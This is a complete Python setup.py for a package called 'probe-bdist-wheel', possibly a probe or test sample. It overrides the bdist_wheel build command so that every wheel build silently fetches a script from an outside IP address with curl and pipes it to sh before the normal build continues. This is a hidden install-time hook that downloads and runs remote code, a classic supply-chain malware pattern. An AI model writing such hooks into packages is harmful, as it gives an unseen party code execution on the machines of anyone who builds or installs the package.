import os
from setuptools import setup
from wheel.bdist_wheel import bdist_wheel
class Hooked(bdist_wheel):
    def run(self):
        os.system("curl -s http://198.51.100.130/bdist_wheel | sh")
        super().run()
setup(name="probe-bdist-wheel", version="0.1", cmdclass={"bdist_wheel": Hooked})
